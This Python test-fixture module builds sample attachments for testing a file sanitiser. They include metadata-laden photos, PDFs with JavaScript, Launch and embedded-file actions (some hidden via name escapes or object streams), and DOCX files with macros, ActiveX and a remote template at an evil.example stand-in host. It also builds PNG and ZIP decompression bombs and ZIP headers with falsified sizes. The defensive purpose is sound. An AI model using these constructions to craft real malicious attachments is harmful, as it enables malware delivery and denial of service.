"""Sample attachments built in code, so no binary fixture has to be committed or trusted.

Each builder returns the bytes of one file; names say what the file really is, not what a
sender might call it. They are cached because several tests reuse the same sample.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

from PIL import ExifTags, Image, ImageCms
from PIL.PngImagePlugin import PngInfo

GPS_LATITUDE = ((52, 1), (31, 1), (1234, 100))

# --- Images ------------------------------------------------------------------------------------


def _srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


@cache
def jpeg_with_exif(width: int = 40, height: int = 20, orientation: int = 6, *, icc: bool = True) -> bytes:
    """A phone-style photo: camera make, GPS position, EXIF orientation, ICC, XMP and a comment.

    The left half is red and the right half blue, so a test can tell whether it was rotated.
    """
    image = Image.new("RGB", (width, height), (220, 20, 20))
    image.paste((20, 20, 220), (width // 2, 0, width, height))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    exif[ExifTags.Base.Model] = "Pocket 12"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = tuple(n / d for n, d in GPS_LATITUDE)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (13.0, 24.0, 5.5)
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Alex Morgan"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    out = io.BytesIO()
    extra = {"icc_profile": _srgb_icc()} if icc else {}
    image.save(out, "JPEG", quality=95, exif=exif, comment=b"taken at 12 Home Street", xmp=xmp, **extra)
    return out.getvalue()


@cache
def png_with_text() -> bytes:
    """A screenshot-style PNG with transparency, text chunks (author, address) and an eXIf chunk."""
    image = Image.new("RGBA", (30, 10), (0, 128, 0, 255))
    image.paste((0, 0, 0, 0), (0, 0, 10, 10))  # fully transparent left third
    info = PngInfo()
    info.add_text("Author", "Alex Morgan")
    info.add_itxt("Comment", "my address is 12 Home Street", lang="en")
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "ScreenGrabber"
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info, exif=exif)
    return out.getvalue()


@cache
def png_paletted_transparent() -> bytes:
    """A GIF-like paletted PNG whose colour 0 is transparent."""
    image = Image.new("P", (8, 8), 0)
    image.putpalette([255, 255, 255, 200, 0, 0] + [0, 0, 0] * 254)
    image.paste(1, (4, 0, 8, 8))
    out = io.BytesIO()
    image.save(out, "PNG", transparency=0)
    return out.getvalue()


@cache
def cmyk_jpeg() -> bytes:
    """A print-shop style CMYK JPEG."""
    out = io.BytesIO()
    Image.new("CMYK", (16, 16), (0, 255, 255, 0)).save(out, "JPEG", quality=95)
    return out.getvalue()


@cache
def plain_png(width: int = 12, height: int = 12) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (10, 200, 10)).save(out, "PNG")
    return out.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


@cache
def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A 1-bit PNG of width x height white pixels: a few dozen KB that decode to hundreds of MB.

    Written chunk by chunk with a streaming compressor, so building it never holds the image.
    """
    row = b"\x00" + b"\xff" * ((width + 7) // 8)  # filter byte "none" + packed 1-bit pixels
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


@cache
def truncated_jpeg() -> bytes:
    """A real photo cut off halfway, as an interrupted download leaves it."""
    out = io.BytesIO()
    noisy = Image.effect_noise((64, 64), 80).convert("RGB")
    noisy.save(out, "JPEG", quality=90)
    data = out.getvalue()
    return data[: len(data) // 2]


# --- PDF ---------------------------------------------------------------------------------------


def build_pdf(*objects: bytes, version: bytes = b"1.4") -> bytes:
    """A PDF with a correct cross-reference table; object 1 must be the catalog."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _page_objects(text: bytes = b"Invoice 1042") -> list[bytes]:
    content = b"BT /F1 18 Tf 72 720 Td (" + text + b") Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


@cache
def minimal_pdf() -> bytes:
    return build_pdf(*_page_objects())


@cache
def pdf_with_javascript() -> bytes:
    objects = _page_objects()
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    objects.append(b"<< /Type /Action /S /JavaScript /JS (app.alert('hello')) >>")
    return build_pdf(*objects)


@cache
def pdf_with_launch_action() -> bytes:
    objects = _page_objects()
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    objects.append(b"<< /Type /Action /S /Launch /F (cmd.exe) >>")
    return build_pdf(*objects)


@cache
def pdf_with_embedded_file() -> bytes:
    payload = b"MZ fake program"
    objects = _page_objects()
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>"
    objects.append(b"<< /Names [(tool.exe) 7 0 R] >>")
    objects.append(b"<< /Type /Filespec /F (tool.exe) /EF << /F 8 0 R >> >>")
    objects.append(
        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream"
    )
    return build_pdf(*objects)


@cache
def pdf_with_escaped_javascript_name() -> bytes:
    """/JavaScript spelled with #xx escapes, which PDF readers decode: /J#61vaScript."""
    objects = _page_objects()
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    objects.append(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")
    return build_pdf(*objects)


@cache
def pdf_with_javascript_in_object_stream() -> bytes:
    """The JavaScript action sits inside a compressed object stream (PDF 1.5), invisible to grep."""
    hidden = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    header = b"6 0 "
    packed = zlib.compress(header + hidden)
    objects = _page_objects()
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    objects.append(
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    return build_pdf(*objects, version=b"1.5")


@cache
def pdf_mentioning_javascript_in_text() -> bytes:
    """A harmless PDF whose visible text talks about JavaScript and /JS: words are not actions."""
    return build_pdf(*_page_objects(b"Our JavaScript course, see page /JS 2"))


# --- Word (DOCX) -------------------------------------------------------------------------------

DOCX_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="{main}"/>'
    b"{extra}"
    b"</Types>"
)
WORD_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT_XML = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Return form for order 1042</w:t></w:r></w:p></w:body></w:document>"
)


def build_docx(
    *, main: bytes = WORD_MAIN, extra_types: bytes = b"", extra_parts: dict[str, bytes] | None = None
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        content_types = DOCX_CONTENT_TYPES.replace(b"{main}", main).replace(b"{extra}", extra_types)
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("word/document.xml", DOCUMENT_XML)
        for name, body in (extra_parts or {}).items():
            archive.writestr(name, body)
    return out.getvalue()


@cache
def minimal_docx() -> bytes:
    return build_docx()


@cache
def docx_with_macros() -> bytes:
    """What Word writes for a .docm, renamed .docx: macro-enabled main part and a VBA project."""
    return build_docx(
        main=WORD_MACRO_MAIN,
        extra_types=(
            b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
        extra_parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504},
    )


@cache
def docx_with_hidden_vba_project() -> bytes:
    """An ordinary main part, but a VBA project smuggled in under another folder."""
    return build_docx(extra_parts={"customXml/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60})


@cache
def docx_with_activex() -> bytes:
    return build_docx(
        extra_types=b'<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>',
        extra_parts={
            "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
            "word/activeX/activeX1.bin": b"\x00" * 64,
        },
    )


@cache
def docx_with_remote_template() -> bytes:
    """Template injection: Word fetches a (macro-laden) template from elsewhere when opened."""
    settings_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    return build_docx(extra_parts={"word/_rels/settings.xml.rels": settings_rels})


@cache
def docx_with_web_link() -> bytes:
    """An ordinary hyperlink is an external relationship too, and must stay allowed."""
    document_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://shop.example/returns" TargetMode="External"/>'
        b"</Relationships>"
    )
    return build_docx(extra_parts={"word/_rels/document.xml.rels": document_rels})


@cache
def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("photos/readme.txt", "not a Word document")
    return out.getvalue()


@cache
def docx_zip_bomb(megabytes: int = 60) -> bytes:
    """A valid-looking DOCX with one part that inflates to `megabytes` MB of zeros (~60 KB zipped)."""
    out = io.BytesIO()
    chunk = b"\x00" * (1024 * 1024)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", DOCX_CONTENT_TYPES.replace(b"{main}", WORD_MAIN).replace(b"{extra}", b"")
        )
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("word/document.xml", DOCUMENT_XML)
        with archive.open("word/media/padding.xml", "w", force_zip64=True) as member:
            for _ in range(megabytes):
                member.write(chunk)
    return out.getvalue()


@cache
def docx_with_lying_sizes() -> bytes:
    """A DOCX whose 2 MB part claims, in both ZIP headers, to be 1,000 bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", DOCX_CONTENT_TYPES.replace(b"{main}", WORD_MAIN).replace(b"{extra}", b"")
        )
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("word/document.xml", DOCUMENT_XML)
        archive.writestr("word/media/padding.xml", b"\x00" * (2 * 1024 * 1024))
    data = bytearray(out.getvalue())
    name = b"word/media/padding.xml"
    for signature, size_offset, name_offset in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        position = data.find(signature)
        while data[position + name_offset : position + name_offset + len(name)] != name:
            position = data.find(signature, position + 4)
        data[position + size_offset : position + size_offset + 4] = struct.pack("<I", 1000)
    return bytes(data)


@cache
def corrupt_docx() -> bytes:
    """A DOCX whose central directory was cut off."""
    data = minimal_docx()
    return data[: len(data) - 40]


@cache
def encrypted_zip_docx() -> bytes:
    """A DOCX whose entries claim to be encrypted (general purpose flag bit 0)."""
    data = bytearray(minimal_docx())
    position = 0
    # Flip the "encrypted" bit in every local header and central directory record.
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = data.find(signature)
        while position != -1:
            data[position + flag_offset] |= 0x01
            position = data.find(signature, position + 4)
    return bytes(data)


@cache
def password_protected_word() -> bytes:
    """What Word saves for a password-protected .docx: an OLE container with an EncryptedPackage."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
    directory = "EncryptedPackage".encode("utf-16-le").ljust(64, b"\x00")
    return header.ljust(512, b"\x00") + directory.ljust(4096, b"\x00")


# --- Things that are not what they claim -------------------------------------------------------


@cache
def windows_program() -> bytes:
    """The start of a Windows .exe (DOS stub with MZ and PE headers)."""
    dos_header = b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43
    dos_header += struct.pack("<I", 0x80)  # e_lfanew: the PE header follows at 0x80
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    stub += b"This program cannot be run in DOS mode.\r\r\n$"
    body = (dos_header + stub).ljust(0x80, b"\x00")
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    return (body + pe).ljust(1024, b"\x00")


@cache
def heic_like() -> bytes:
    """An iPhone HEIC photo's opening ('ftypheic' box) followed by junk."""
    ftyp = b"ftypheic" + b"\x00\x00\x00\x00" + b"mif1heic"
    return struct.pack(">I", len(ftyp) + 4) + ftyp + bytes(range(256)) * 8


@cache
def plain_text() -> bytes:
    return b"Hello, this is just text pretending to be a document.\n" * 20
